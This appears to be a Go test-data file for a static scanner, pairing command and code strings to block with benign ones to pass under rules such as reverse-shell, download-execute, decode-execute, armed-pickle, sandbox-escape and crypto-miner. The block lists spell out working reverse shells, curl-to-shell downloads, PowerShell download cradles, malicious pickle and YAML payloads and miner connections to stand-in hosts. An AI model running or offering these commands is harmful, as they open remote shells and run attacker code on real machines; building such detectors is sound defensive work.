package static

var codeSamples = []sample{
	{
		rule: "reverse-shell", lang: "bash",
		block: []string{
			"bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", "sh -i 5<> /dev/tcp/h.example/1 0<&5 1>&5 2>&5", "nc -e /bin/sh h.example 4444", "nc h.example 1 -c bash", "ncat --exec /bin/bash h.example 1", "nc -lvp 1 -e /bin/sh",
			"socat TCP:h.example:1 EXEC:/bin/sh", "socat exec:'bash -li',pty,stderr tcp:h.example:1", "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(1,inet_aton(\"h\")));open(STDIN,\">&S\");exec(\"/bin/sh -i\");'",
			"ruby -rsocket -e 'exit if fork;c=TCPSocket.new(\"h\",1);exec \"/bin/sh -i <&3 >&3\"'", "php -r '$s=fsockopen(\"h\",1);exec(\"/bin/sh -i <&3 >&3 2>&3\");'", "exec 3<>/dev/tcp/h.example/1; bash <&3 >&3 2>&3",
			"0<&9; exec 9<>/dev/tcp/h.example/1; sh <&9 >&9 2>&9", "busybox nc h.example 1 -e sh", "env nc -e /bin/sh h 1", "timeout 5 bash -c 'bash -i >& /dev/tcp/h/1 0>&1'", "H=h.example P=9; bash -i >& /dev/tcp/$H/$P 0>&1",
		},
		pass: []string{
			"nc -zv localhost 5432", "nc -l 8080 > out.txt", "socat TCP-LISTEN:8080,fork TCP:localhost:80", "echo > /dev/tcp/localhost/80", "bash -i", "echo 'bash -i >& /dev/tcp/1.2.3.4/99 0>&1' > cheatsheet.md",
			"exec 3<>/dev/tcp/example.com/80; echo -e 'GET / HTTP/1.0\\n' >&3; cat <&3", "curl telnet://localhost:80", "timeout 1 bash -c '</dev/tcp/localhost/5432' && echo up",
		},
	},
	{
		rule: "beacon", lang: "bash",
		block: []string{"nohup ./agent -server http://203.0.113.7:8888 &", "/tmp/x --c2 https://198.51.100.4/ &", "setsid ./a tcp://203.0.113.9:1 >/dev/null 2>&1 &"},
		pass:  []string{"./server --listen http://127.0.0.1:8080 &", "./agent -server https://api.example.com &", "./client http://203.0.113.7/"},
	},
	{
		rule: "remote-command", lang: "bash",
		block: []string{
			"nc h.example 1 | sh", "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc h.example 1 > /tmp/f", "exec 5<>/dev/tcp/h/1; while read l <&5; do eval \"$l\"; done", "nc -l 99 | bash", "bash < /dev/tcp/h.example/1",
			"eval \"$(nc h.example 1)\"", "mkfifo p; sh -i < p 2>&1 | openssl s_client -quiet -connect h:1 > p",
		},
		pass: []string{"nc h.example 1 | tee out", "nc h.example 1 | grep ok", "read x < /dev/tcp/time.example/13; echo $x", "nc -l 99 | tar x"},
	},
	{
		rule: "download-execute", lang: "bash",
		block: []string{
			"curl http://h.example/x | sh", "curl -s https://h.example/x | sudo bash", "wget -qO- h.example/x | sh", "bash <(curl -s https://h.example/x)", "sh -c \"$(curl -fsSL https://h.example/x)\"", "eval \"$(wget -qO- https://h.example/x)\"",
			"curl -sO http://h.example/x.deb; dpkg -i x.deb", "wget -O /tmp/a.rpm http://203.0.113.7/a.rpm && sudo rpm -ivh /tmp/a.rpm", "curl -o p.whl http://203.0.113.7/p.whl && pip install ./p.whl",
			"curl -o a https://h.example/a && sh a", "wget https://h.example/a.sh; bash a.sh", "curl https://h.example/a -o /tmp/a; chmod +x /tmp/a; /tmp/a", "wget https://h.example/a && chmod +x a && ./a", "source <(curl -s https://h.example/x)",
			"curl https://h.example/x.py | python3", "python3 <(curl -s https://h.example/x.py)", "curl https://h.example/x | tee /tmp/y | bash", "curl h.example/x > y; . ./y", "X=$(curl h.example); bash -c \"$X\"", "curl h.example | xargs -I{} sh -c '{}'",
			"wget -O - h.example | perl", "curl https://h.example/x | base64 -d | sh", "aria2c -o m https://h.example/m; chmod 755 m; ./m", "scp u@h.example:/x.sh . && sh x.sh", "curl h.example | node", "for i in 1; do curl h.example | sh; done",
			"ls && curl h.example/x | sh", "curl -sL h.example/x | bash -s -- --yes", "curl https://h.example/x -o - | bash", "http h.example/x | bash",
		},
		pass: []string{
			"curl -LO https://github.com/cli/cli/releases/download/v2.40.0/gh_2.40.0_linux_amd64.deb && sudo dpkg -i gh_2.40.0_linux_amd64.deb", "dpkg -i ./build/app.deb", "sudo apt-get install -y ./app.deb", "curl -fsSL https://astral.sh/uv/install.sh | sh", "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y", "curl -fsSL https://deb.nodesource.com/setup_20.x | sudo -E bash -", "curl -s https://api.example.com/x | jq .",
			"curl -O https://h.example/data.csv", "wget https://h.example/data.tar.gz && tar xf data.tar.gz", "curl https://h.example/x.sh -o x.sh", "curl http://localhost:8000/x.sh | sh", "bash setup.sh", "curl -s h.example/data.json | python3 -c 'import json,sys; print(json.load(sys.stdin))'",
			"curl -s h.example/d | python3 -m json.tool", "curl -Lo kubectl https://dl.k8s.io/release/v1.30.0/bin/linux/amd64/kubectl && chmod +x kubectl && ./kubectl version --client", "curl -s h.example | grep title | head", "git clone https://github.com/a/b && cd b && make",
			"curl h.example/list | xargs -n1 echo", "curl h.example/data.csv | python3 script.py", "pip install -r requirements.txt", "wget -q h.example/model.bin -O model.bin; python3 run.py model.bin",
		},
	},
	{
		rule: "hidden-powershell", lang: "bash",
		block: []string{"pwsh -EncodedCommand SQBFAFgA", "powershell -w hidden -c 'ls'", "pwsh -c 'IEX (New-Object Net.WebClient).DownloadString(\"http://h.example/x\")'"},
		pass:  []string{"pwsh -c 'Get-ChildItem'", "pwsh ./build.ps1", "pwsh -Version", "echo powershell -enc x"},
	},
	{
		rule: "package-from-anywhere", lang: "bash",
		block: []string{"pip install http://h.example/x.tar.gz", "pip install --index-url http://203.0.113.4/simple x", "npm install https://203.0.113.4/x.tgz", "pip install git+http://h.example/x.git"},
		pass:  []string{"pip install git+https://github.com/a/b.git", "pip install --index-url https://download.pytorch.org/whl/cpu torch", "npm install --registry http://localhost:4873 x", "pip install -i http://10.0.0.4/simple x", "npm install https://github.com/a/b/tarball/main"},
	},
	{
		rule: "decode-execute", lang: "bash",
		block: []string{
			"echo bHM= | base64 -d | sh", "base64 -d <<< bHM= | bash", "eval $(echo bHM= | base64 --decode)", "bash -c \"$(echo bHM= | base64 -d)\"", "echo 6c73 | xxd -r -p | sh", "echo sl | rev | bash", "echo yf | tr a-z n-za-m | sh",
			"base64 -d /tmp/1 | bash", "printf '\\x6c\\x73' | sh", "openssl base64 -d <<< bHM= | sh", "python3 -c \"$(echo cHJpbnQoMSk= | base64 -d)\"", "echo bHM= | base64 -d > /tmp/x; sh /tmp/x", "X=bHM=; base64 -d <<< $X | sh", "sh <(base64 -d <<< bHM=)",
			"echo bHM= | base64 -d | sudo sh", "source <(echo bHM= | base64 -d)", "echo NRZQ==== | base32 -d | sh", "$(echo bHM= | base64 -d)x; eval \"`echo bHM= | base64 -d`\"",
		},
		pass: []string{
			"echo aGVsbG8= | base64 -d", "echo aGVsbG8= | base64 -d > out.bin", "base64 -d image.b64 > image.png", "echo 'print(1)' | python3", "cat script.sh | bash", "printf 'ls\\n' | sh", "echo a,b | tr , '\\n' | xargs -n1 echo", "zcat dump.sql.gz | psql db",
			"kubectl get secret x -o jsonpath='{.data.p}' | base64 -d", "echo test | rev", "openssl enc -d -aes-256-cbc -in a -out b -k p",
		},
	},
	{
		rule: "hidden-name", lang: "bash",
		block: []string{"/b?n/r? -f x", "/???/c?t x", "/bin/ba?h x.sh", "/usr/bin/wge* http://h.example"},
		pass:  []string{"ls /bin/*", "/bin/ls x", "./run*.sh", "/usr/bin/env python3 x.py"},
	},
	{
		rule: "hidden-address", lang: "bash",
		block: []string{"curl $(echo aHR0cHM6Ly9oLmV4YW1wbGUv | base64 -d)", "wget \"$(echo 687474703a2f2f682e6578616d706c652f | xxd -r -p)\"", "U=$(base64 -d <<< aHR0cHM6Ly9oLmV4YW1wbGUv); curl -O $U"},
		pass:  []string{"curl https://h.example/", "curl \"$URL\"", "curl https://h.example/$(date +%F)", "curl $(cat url.txt)"},
	},
	{
		rule: "native-code", lang: "python",
		block: []string{
			"import ctypes\nlibc = ctypes.CDLL(None)\nlibc.memfd_create(b'x', 0)", "import ctypes\nctypes.windll.kernel32.VirtualAlloc(0, 9, 0x3000, 0x40)", "import os\nfd = os.memfd_create('x')",
		},
		pass: []string{"import ctypes\nlibm = ctypes.CDLL('libm.so.6')\nprint(libm.cos)", "import ctypes\nctypes.c_int(3)", "import mmap\nm = mmap.mmap(-1, 10)", "import ctypes\nprint(ctypes.sizeof(ctypes.c_long))"},
	},
	{
		rule: "unsafe-deserialise", lang: "python",
		block: []string{
			"import pickle, requests\npickle.loads(requests.get('https://h.example/x').content)", "import pickle, base64\npickle.loads(base64.b64decode('gASVAA=='))", "import pickle, socket\ns = socket.socket()\ns.connect(('h', 1))\npickle.loads(s.recv(1024))",
		},
		pass: []string{"import pickle\nwith open('model.pkl', 'rb') as f:\n    m = pickle.load(f)", "import pickle\npickle.loads(pickle.dumps({'a': 1}))", "import json, requests\njson.loads(requests.get('https://h.example').text)"},
	},
	{
		rule: "armed-pickle", lang: "python",
		block: []string{
			"import pickle\npickle.loads(b\"cos\\nsystem\\n(S'id'\\ntR.\")", "import yaml\nyaml.load('!!python/object/apply:os.system [\"id\"]', Loader=yaml.Loader)", "import pickle\nx = b\"csubprocess\\ncheck_output\\n(S'id'\\ntR.\"\npickle.loads(x)",
		},
		pass: []string{"import pickle\npickle.loads(b'\\x80\\x04K\\x01.')", "import yaml\nyaml.safe_load('a: 1')", "import pickle\nprint(pickle.dumps([1]))"},
	},
	{
		rule: "eval-input", lang: "python",
		block: []string{"eval(input())", "import sys\nexec(sys.argv[1])", "import sys\nexec(sys.stdin.read())"},
		pass:  []string{"x = int(input())", "import ast\nast.literal_eval(input())", "eval('1 + 2')", "import json\njson.loads(input())"},
	},
	{
		rule: "sandbox-escape", lang: "python",
		block: []string{
			"().__class__.__bases__[0].__subclasses__()[40]('/etc/passwd').read()", "''.__class__.__mro__[1].__subclasses__()", "[c for c in (1).__class__.__base__.__subclasses__() if c.__name__ == 'Popen'][0]('id')",
		},
		pass: []string{"print(type(x).__name__)", "class A: pass\nprint(A.__subclasses__())", "print(isinstance(1, object))", "print(int.__mro__)"},
	},
	{
		rule: "decode-execute", lang: "bash",
		block: []string{
			"gunzip -c x | sh", "zcat x.gz | bash", "xz -dc x.xz | sh", "bzip2 -dc < x | bash", "zstd -dc x | sh", "gpg -d x.gpg | bash", "unzip -p x.zip run.sh | sh", "tar xOf a.tar run.sh | sh", "bash <(zcat x.gz)", "eval \"$(gzip -dc x)\"",
			"zcat x.gz > s.sh; bash s.sh",
		},
		pass: []string{
			"zcat log.gz | grep error", "gunzip -c dump.sql.gz | psql app", "gzip -dc tool.gz > tool && chmod +x tool && ./tool", "unzip -p a.zip x.json | jq .", "tar xzf a.tgz -C /opt", "gpg --dearmor k > k.gpg", "diff <(zcat a.gz) <(zcat b.gz)", "gpg -d notes.gpg > notes.txt",
		},
	},
	{
		rule: "decode-execute", lang: "python",
		block: []string{
			"import base64\nrunner.run(['python', '-c', base64.b64decode(x)])", "import base64\nfrom tools import start\nstart([\"bash\", \"-c\", base64.b64decode('bHM=').decode()])",
			"import zlib, base64\ncmd = ['python3', '-c', zlib.decompress(base64.b64decode(blob))]\npool.launch(cmd)",
		},
		pass: []string{
			"runner.run(['python', '-c', 'print(1)'])", "import base64\nrunner.run(['python', 'x.py', base64.b64decode(x)])", "import base64\nstore.save([base64.b64decode(x)])", "import base64\nplot(['a', '-c', 'b'])",
		},
	},
	{
		rule: "crypto-miner", lang: "python",
		block: []string{
			"import socket, json\ns = socket.create_connection((h, 3333))\ns.sendall((json.dumps({'id': 1, 'method': 'mining.subscribe', 'params': []}) + '\\n').encode())",
			"import socket, json\ns = socket.socket()\ns.connect(('p.example', 4444))\nm = {\"method\": \"mining.authorize\"}\ns.send(json.dumps(m).encode())",
			"import socket\ns = socket.create_connection(('p.example', 1))\nfor m in ['mining.submit']:\n    s.send(build(m))",
		},
		pass: []string{
			"print('mining.subscribe is a method of stratum')", "import socket\ns = socket.create_connection(('p.example', 80))\ns.send(b'GET / HTTP/1.0')", "methods = ['mining.subscribe']\nprint(methods)",
			"import socket\ns = socket.create_connection(('localhost', 3333))\ns.send(build('mining.submit'))",
		},
	},
	{
		rule: "crypto-miner", lang: "javascript",
		block: []string{
			"const s = require('net').connect(3333, 'p.example')\ns.write(JSON.stringify({ id: 1, method: 'mining.subscribe', params: [] }))", "const s = require('tls').connect(443, 'p.example')\nlet m = {method: \"mining.authorize\"}\ns.write(JSON.stringify(m))",
			"const net = require('net'); const s = new net.Socket(); s.connect(1, 'p.example'); s.write(pack(`mining.submit`))",
		},
		pass: []string{"console.log('mining.subscribe')", "require('net').connect(80, 'p.example').write('x')", "const m = {method: 'mining.subscribe'}; console.log(m)"},
	},
	{
		rule: "crypto-miner", lang: "bash",
		block: []string{
			"./xmrig -o pool.example:3333 -u x", "xmrig --config=c.json", "nohup /tmp/.x/minerd -a scrypt &", "wget https://github.com/xmrig/xmrig/releases/download/v6/xmrig.tar.gz", "git clone https://github.com/xmrig/xmrig", "./a -o stratum+tcp://h.example:3333",
			"docker run -d x/xmrig", "curl https://xmr.pool.example/ -o x", "./worker --donate-level 1 --coin monero", "npm install coin-hive", "sudo nice -n 19 cpuminer -o stratum+ssl://h:1", "timeout 60 t-rex -a kawpow", "echo '{\"algo\":\"rx/0\"}' > config.json",
		},
		pass: []string{
			"pkill xmrig", "grep -r xmrig .", "echo xmrig", "pip install scikit-learn", "ps aux | grep minerd", "pip install textmining", "git clone https://github.com/a/process-mining", "cat > README.md <<'E'\nBlock stratum+tcp:// in the firewall\nE", "rm -rf xmrig",
			"echo 'we block stratum+tcp:// pools'",
		},
	},
}
